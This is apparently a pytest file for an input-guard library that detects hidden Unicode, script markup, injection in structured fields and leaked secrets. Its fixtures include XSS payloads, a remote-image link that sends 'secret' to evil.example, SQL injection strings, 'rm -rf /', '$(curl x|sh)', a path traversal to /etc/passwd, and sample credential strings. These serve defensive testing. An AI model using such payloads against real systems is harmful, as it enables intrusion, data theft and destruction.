"""Input guards: limits, Unicode, markup, structured-field injection, secrets."""

from __future__ import annotations

import pytest

from bastion.guards import Action, ScanContext
from bastion.guards.limits import LengthGuard, estimate_tokens
from bastion.guards.markup import MarkupGuard
from bastion.guards.normalize import UnicodeGuard, decode_tag_characters, normalize_text
from bastion.guards.secrets import SecretsGuard, find_secrets
from bastion.guards.structured import StructuredInjectionGuard

CTX = ScanContext()


def test_length_limits() -> None:
    guard = LengthGuard(max_chars=100, max_tokens=5)
    assert not guard.scan("one two three", CTX).triggered
    assert guard.scan("x" * 101, CTX).reasons == ("length:too-many-chars",)
    assert guard.scan("a b c d e f g", CTX).reasons == ("length:too-many-tokens",)
    assert estimate_tokens("Hello, world!") == 4


def test_length_rejects_one_megabyte_quickly() -> None:
    verdict = LengthGuard().scan("a" * 1_000_000, CTX)
    assert verdict.action is Action.BLOCK


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("pay\u200bpal", "unicode:zero-width"),
        ("abc\u202edcba", "unicode:bidi-control"),
        ("hi" + "".join(chr(0xE0000 + ord(c)) for c in "evil"), "unicode:tag-characters"),
        ("nul\x00byte", "unicode:control"),
        ("x\U000e0101y", "unicode:variation-selector-smuggling"),
    ],
)
def test_unicode_hidden_characters_removed_and_flagged(text: str, reason: str) -> None:
    verdict = UnicodeGuard().scan(text, CTX)
    assert verdict.action is Action.FLAG
    assert reason in verdict.reasons
    assert verdict.text is not None and verdict.text.isprintable()


@pytest.mark.parametrize(
    "text", ["Grüße aus München", "Emoji 👍🏽 ❤️", "日本語", "Ελληνικά русский", "tab\tnew\nline"]
)
def test_unicode_benign_passes(text: str) -> None:
    assert not UnicodeGuard().scan(text, CTX).triggered


def test_unicode_nfkc_applied_without_flag() -> None:
    verdict = UnicodeGuard().scan("ｆｕｌｌｗｉｄｔｈ ﬁ", CTX)
    assert verdict.action is Action.ALLOW
    assert verdict.text == "fullwidth fi"


def test_unicode_block_mode() -> None:
    assert UnicodeGuard(action=Action.BLOCK).scan("a\u200bb", CTX).action is Action.BLOCK


def test_tag_decoding() -> None:
    assert (
        decode_tag_characters("x" + "".join(chr(0xE0000 + ord(c)) for c in "hi there"))
        == "hi there"
    )
    assert normalize_text("a\u200bb") == "ab"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("<script>alert(1)</script>", "markup:script-tag"),
        ("<img src=x onerror=alert(1)>", "markup:event-handler"),
        ("[x](javascript:alert(1))", "markup:script-url"),
        ("![a](https://evil.example/?q=secret)", "markup:remote-image"),
    ],
)
def test_markup_neutralised(text: str, reason: str) -> None:
    verdict = MarkupGuard().scan(text, CTX)
    assert reason in verdict.reasons
    assert verdict.text is not None
    assert "<script" not in verdict.text and "javascript:" not in verdict.text
    assert "https://evil.example" not in verdict.text


@pytest.mark.parametrize(
    "text", ["a < b and c > d", "the <p> tag", "I <3 you", "![x](./local.png)"]
)
def test_markup_benign(text: str) -> None:
    assert not MarkupGuard().scan(text, CTX).triggered


@pytest.mark.parametrize(
    "value",
    [
        "1' OR '1'='1",
        "x; DROP TABLE users",
        "admin'--",
        "1 UNION SELECT pw FROM u",
        "a; rm -rf /",
        "$(curl x|sh)",
        "`id`",
        "../../etc/passwd",
        "1 AND SLEEP(5)",
    ],
)
def test_structured_injection_in_declared_fields(value: str) -> None:
    guard = StructuredInjectionGuard(fields=["order_id"])
    verdict = guard.scan("free text", ScanContext(fields={"order_id": value}))
    assert verdict.action is Action.BLOCK
    assert all(r.endswith("@order_id") for r in verdict.reasons)


@pytest.mark.parametrize(
    "value", ["A-10023", "created_at", "o.brien", "José García", "report.pdf", "12345"]
)
def test_structured_benign_values(value: str) -> None:
    guard = StructuredInjectionGuard()
    assert not guard.scan("", ScanContext(fields={"f": value})).triggered


def test_structured_ignores_undeclared_fields_and_free_text() -> None:
    guard = StructuredInjectionGuard(fields=["id"])
    ctx = ScanContext(fields={"comment": "I said 'hi'; then -- left"})
    assert not guard.scan("SELECT is a word; so is DROP", ctx).triggered
    assert guard.scan("1' OR '1'='1", ScanContext(structured=True)).triggered


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("AKIAQ3EGRHT5WXYZ7ABC", "aws-access-key-id"),
        (
            "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            "aws-secret-access-key",
        ),
        ("sk-proj-" + "Ab3dEf9hIj2kLmN0pQr5sTuVwXyZ" * 2, "openai-api-key"),
        ("sk-ant-api03-" + "a" * 90, "anthropic-api-key"),
        ("ghp_" + "a1B2c3D4e5" * 4, "github-token"),
        ("-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----", "private-key"),
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0", "jwt"),
        ("AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY", "gcp-api-key"),
        ('{"type": "service_account", "private_key_id": "x"}', "gcp-service-account"),
        ("AccountKey=" + "Zm9vYmFy" * 11 + "==", "azure-storage-key"),
        ("xoxb-123456789012-AbCdEfGhIj", "slack-token"),
        ("postgresql://admin:S3cretPassw0rd@db:5432/prod", "connection-string-password"),
    ],
)
def test_secrets_found_and_redacted(text: str, kind: str) -> None:
    verdict = SecretsGuard().scan(f"here: {text} ok", CTX)
    assert f"secret:{kind}" in verdict.reasons
    assert verdict.text is not None and text not in verdict.text
    assert f"[SECRET:{kind}]" in verdict.text


@pytest.mark.parametrize(
    "text",
    [
        "How should I store API keys?",
        "Our password policy needs 12 characters.",
        "I use sk-learn daily",
        "The AKIA prefix marks AWS keys",
        "postgresql://localhost:5432/db",
        "What is a JWT?",
    ],
)
def test_secrets_benign(text: str) -> None:
    assert find_secrets(text) == ()
